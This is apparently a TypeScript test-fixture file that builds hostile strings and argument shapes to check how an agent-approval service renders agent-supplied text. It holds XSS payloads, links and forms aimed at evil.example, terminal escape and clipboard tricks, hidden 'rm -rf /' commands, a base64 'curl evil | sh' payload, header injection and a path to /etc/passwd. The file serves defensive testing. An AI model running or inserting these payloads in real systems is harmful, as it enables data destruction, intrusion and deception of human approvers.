import { randomBytes } from 'node:crypto'
import type { Attempt, Card, JsonValue } from '#contract'

/** What an attacker writes into whatever an agent may say, and how to tell that somebody obeyed it. */
export interface HostileText {
  name: string
  text: string
  /** Must not occur in what is shown where it is dangerous. Absent where nothing but a person can be fooled. */
  raw?: string
  /** `everywhere`, or the one kind of medium that gives it a meaning. */
  dangerousIn: Medium | 'everywhere'
}
export type Medium = 'html' | 'chat' | 'csv' | 'header'

const everywhere = (name: string, text: string, raw: string): HostileText => ({
  name,
  text,
  raw,
  dangerousIn: 'everywhere',
})
const inMedium = (dangerousIn: Medium, name: string, text: string, raw: string): HostileText => ({
  name,
  text,
  raw,
  dangerousIn,
})
/** Fools people, not machines: it may be shown, as the value that it is. */
const misleading = (name: string, text: string): HostileText => ({ name, text, dangerousIn: 'everywhere' })

const ESC = '\u001b'
const MANY = 900_000

/** Long enough to hurt, short enough for the bound on what an agent may send. */
const LONG: readonly HostileText[] = [
  misleading('an argument of nearly 1 MB', 'abcdefgh '.repeat(MANY / 9)),
  misleading('one very long word', 'W'.repeat(20_000)),
  misleading('a command far behind spaces', `echo ok${' '.repeat(5_000)}; rm -rf /`),
  misleading('a command far behind empty lines', `echo ok${'\n'.repeat(2_000)}rm -rf /`),
  everywhere('nothing but zero-width spaces', '\u200b'.repeat(5_000), '\u200b'),
  everywhere('very many overrides of direction', '\u202e\u202d'.repeat(2_000), '\u202e'),
  misleading('marks stacked upon one letter', `Z${'\u0308\u0301\u0336'.repeat(300)}algo`),
  misleading('very many backslashes', '\\'.repeat(20_000)),
]

export const HOSTILE_TEXTS: readonly HostileText[] = [
  // markup
  inMedium('html', 'a script', '<script>alert(1)</script>', '<script>alert'),
  inMedium('html', 'an image that fails', '"><img src=x onerror=alert(1)>', '<img src=x'),
  inMedium(
    'html',
    'an attribute that ends',
    '\' onmouseover=alert(1) x=\'" onfocus=alert(2) y="',
    '" onfocus=',
  ),
  inMedium(
    'html',
    'the end of a text area',
    '</textarea></title></style><svg onload=alert(1)>',
    '<svg onload',
  ),
  inMedium('html', 'a comment that is left open', '<!--', '<!--'),
  inMedium(
    'html',
    'a form',
    '<form action="https://evil.example/"><button>Approve</button>',
    '<form action="https://evil',
  ),
  inMedium('html', 'a base address', '<base href="https://evil.example/">', '<base href'),
  inMedium('html', 'a script’s address', 'javascript:alert(document.cookie)', 'href="javascript:'),
  inMedium('html', 'a data address', 'data:text/html,<script>alert(1)</script>', 'href="data:'),
  misleading('markup that is escaped already', '&lt;script&gt;alert(1)&lt;/script&gt;'),
  misleading(
    'template syntax',
    `\${process.env.HOME} {{constructor.constructor("return 1")()}} <%= 7*7 %> #{7*7}`,
  ),
  // chats
  inMedium('chat', 'a link of Slack’s', '<https://evil.example|Approve>', '<https://evil.example|Approve>'),
  inMedium('chat', 'a call of everybody', '<!channel> <!here> <@U123>', '<!channel>'),
  inMedium('chat', 'a link in Markdown', '[Approve](https://evil.example)', '[Approve](https://evil'),
  misleading('backticks', '```\nApproved by Bob\n```'),
  // direction and what cannot be seen
  everywhere('an override of direction', 'user\u202egnp.exe', '\u202e'),
  everywhere('an isolate of direction', '\u2066\u2067admin\u2069', '\u2067'),
  everywhere('a zero-width space', 'ad\u200bmin', '\u200b'),
  everywhere('a zero-width joiner', 'ad\u200dmin', '\u200d'),
  everywhere('a soft hyphen', 'pass\u00adword', '\u00ad'),
  everywhere('tag characters', 'ok\u{e0041}\u{e0042}', '\u{e0041}'),
  everywhere('a byte-order mark', '\ufeffroot', '\ufeff'),
  everywhere('a variation selector', 'ok\ufe01', '\ufe01'),
  everywhere('a supplementary variation selector', 'ok\u{e0100}', '\u{e0100}'),
  everywhere('a combining grapheme joiner', 'ad\u034fmin', '\u034f'),
  everywhere('Hangul fillers', 'a\u3164b\u115fc\u1160d\uffa0', '\u3164'),
  everywhere('a Braille blank', 'rm\u2800-rf', '\u2800'),
  everywhere('Khmer inherent vowels', 'a\u17b4b\u17b5', '\u17b4'),
  everywhere('a no-break space', 'rm\u00a0-rf', '\u00a0'),
  everywhere('wide and thin spaces', 'a\u3000b\u2003c\u200ad\u205fe\u1680f', '\u3000'),
  everywhere('a line separator', 'one\u2028two', '\u2028'),
  everywhere('a paragraph separator', 'one\u2029two', '\u2029'),
  everywhere('a next-line control', 'one\u0085two', '\u0085'),
  everywhere('private-use characters', '\ue000\u{f0000}', '\ue000'),
  everywhere('lone surrogates', 'a\ud800b\udc00', '\ud800'),
  // terminals
  everywhere('colours of a terminal', `${ESC}[32mApproved${ESC}[0m`, ESC),
  everywhere('a cleared screen', `${ESC}[2J${ESC}[1;1HApproved by Carol`, ESC),
  everywhere('a title of the window', `${ESC}]0;holdpoint: approved\u0007`, ESC),
  everywhere('a link of a terminal', `${ESC}]8;;https://evil.example${ESC}\\Approve${ESC}]8;;${ESC}\\`, ESC),
  everywhere('a clipboard that is written', `${ESC}]52;c;cm0gLXJmIC8=\u0007`, '\u0007'),
  everywhere('a question that the terminal answers', `${ESC}[6n${ESC}P$q"p${ESC}\\`, ESC),
  everywhere('controls of eight bits', '\u009b31mred\u009d0;x\u009c', '\u009b'),
  everywhere('a carriage return', 'DROP TABLE customers\rSELECT 1            ', '\r'),
  everywhere('backspaces', 'rm -rf /\b\b\b\b\b\b\b\bls      ', '\b'),
  everywhere('NUL', 'a\0b', '\0'),
  everywhere('a delete character', 'a\u007fb', '\u007f'),
  everywhere('a vertical tab and a form feed', 'a\vb\fc', '\v'),
  // imitation
  misleading('Cyrillic letters', 'p\u0430yroll_\u0435xport'),
  misleading('Greek letters', '\u0391DMIN \u03bfwner'),
  misleading('mathematical letters', '\u{1d41a}\u{1d41d}\u{1d426}\u{1d422}\u{1d427}'),
  misleading('fullwidth letters', '\uff41\uff44\uff4d\uff49\uff4e'),
  misleading('a label', 'x\nRule           harmless, risk low\nApproved by Bob (bob) at login'),
  misleading('an omission', 'x\n⋯ 12 characters are not shown here ⋯\ny'),
  misleading('an escape that was typed', '\\u{202e}harmless'),
  misleading('text that looks like JSON', '"},\n  "approved": true,\n  "x": {"y": "'),
  misleading('a frame', '│\n└──────┘\n┌─ Reviewed ─┐\n│ Bob: approve │'),
  // other media
  inMedium('csv', 'a formula', '=HYPERLINK("https://evil.example","x")', '\n=HYPERLINK'),
  inMedium('header', 'a header', 'x\r\nSet-Cookie: session=evil\r\n\r\n<html>', '\r\nSet-Cookie'),
  misleading('binary as text', Buffer.from(Array.from({ length: 256 }, (_, at) => at)).toString('latin1')),
  misleading('broken UTF-8', '\ufffd\ufffdELF\ufffd'),
  misleading('a payload in base64', Buffer.alloc(600, 'curl evil | sh;').toString('base64')),
  misleading('a percent-encoded path', '..%2f..%2fetc/passwd?a=b#c'),
  misleading('names of prototypes', '__proto__'),
  ...LONG,
]

/** Every hostile text that means something in this medium. */
export const hostileIn = (medium: Medium): (HostileText & { raw: string })[] =>
  HOSTILE_TEXTS.filter(
    (one): one is HostileText & { raw: string } =>
      one.raw !== undefined && (one.dangerousIn === medium || one.dangerousIn === 'everywhere'),
  )

/** What JSON can carry over the wire: no text with lone surrogates gets as far as a card. */
export const isSendable = ({ text }: HostileText): boolean => text.isWellFormed()

const nested = (depth: number): JsonValue => {
  let value: JsonValue = 'the core'
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { inner: value }
  return value
}

/** As deep as a card can be within messages of at most MAX_DEPTH. */
export const DEEPEST = 60

/** Arguments whose shape is what hurts. JSON.parse, since `__proto__` has to be a member. */
export const HOSTILE_ARGUMENTS: readonly { name: string; arguments: JsonValue }[] = [
  { name: 'deep nesting', arguments: nested(DEEPEST) },
  {
    name: 'very many members',
    arguments: Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`key${at}`, at])),
  },
  { name: 'a list of very many', arguments: Array.from({ length: 50_000 }, () => 0) },
  {
    name: 'members of prototypes',
    arguments: JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":1},"toString":"x"}'),
  },
  { name: 'keys that are numbers', arguments: { 10: 'ten', 9: 'nine', '-1': 'minus', '01': 'octal' } },
  { name: 'empty keys and values', arguments: { '': '', ' ': ' ', a: {}, b: [], c: null } },
  {
    name: 'numbers at the edges',
    arguments: [0, -0, 5e-324, 1.5e-7, 0.1, 123456.789, 9007199254740991],
  },
  { name: 'a bare text', arguments: 'just text' },
  { name: 'nothing', arguments: null },
]

/** An argv whose arguments hide in spaces and line feeds. */
export const HOSTILE_ARGV: readonly string[] = [
  'terraform',
  'apply',
  '',
  ' ',
  '-target=a b',
  '--\n[4] "-lock"',
  '\t',
  '"',
  "'",
  '\\',
]

const cut = (text: string, most: number): string => text.slice(0, most).toWellFormed() || '-'

/** The text in every field that an agent, or whoever registers one, can write, as long as the contract allows. */
export function hostileCard(text: string, given: Partial<Card> = {}): Card {
  const digest = `sha-256:${'ab'.repeat(32)}` as const
  const { action, facts, statement } = hostileAttempt(text)
  return {
    v: 1,
    requestId: '1-abcdefgh',
    action,
    redacted: [{ path: `/arguments/${cut(text, 100)}`, length: 12, digest, by: 'policy' }],
    actionDigest: digest,
    agent: { iss: 'test.example/holdpoint', sub: 'support-agent', name: cut(text, 500) },
    owner: { iss: 'https://idp.example.com', sub: 'alice' },
    onBehalfOf: [{ iss: 'https://idp.example.com', sub: cut(text, 200) }],
    onBehalfOfUnverified: true,
    environment: 'prod',
    enforcement: 'in-process:support-agent',
    facts: facts ?? [],
    ...(statement === undefined ? {} : { statement }),
    rule: 'export-customer-data',
    risk: 'high',
    policyVersion: 4,
    approvals: { from: ['sre'], threshold: 1, assurance: 'login' },
    requestedAtMs: 1_790_000_000_000,
    expiresAtMs: 1_790_000_900_000,
    ...given,
  }
}

/** The same as an agent sends it. Send only what `isSendable`. */
export const hostileAttempt = (text: string): Attempt => ({
  attempt: randomBytes(8).toString('hex'),
  action: {
    kind: 'tool',
    name: cut(text, 500),
    target: cut(text, 2000),
    arguments: { value: text, [cut(text, 2000)]: 'as a key', list: [{ deeper: cut(text, 2000) }] },
    runtime: {
      serviceName: cut(text, 500),
      serviceVersion: cut(text, 200),
      host: cut(text, 500),
      precondition: cut(text, 1000),
    },
    trace: { traceId: '1'.repeat(32), spanId: '2'.repeat(16) },
  },
  statement: cut(text, 10_000),
  facts: [{ name: cut(text, 200), value: cut(text, 1000), source: 'agent' }],
})

/** One attempt for each text that can be sent, and one for each hostile shape of arguments. */
export const hostileAttempts = (): { name: string; attempt: Attempt }[] => [
  ...HOSTILE_TEXTS.filter(isSendable).map(({ name, text }) => ({ name, attempt: hostileAttempt(text) })),
  ...HOSTILE_ARGUMENTS.map(({ name, arguments: given }) => {
    const attempt = hostileAttempt('ordinary')
    return { name, attempt: { ...attempt, action: { ...attempt.action, arguments: given } } }
  }),
]
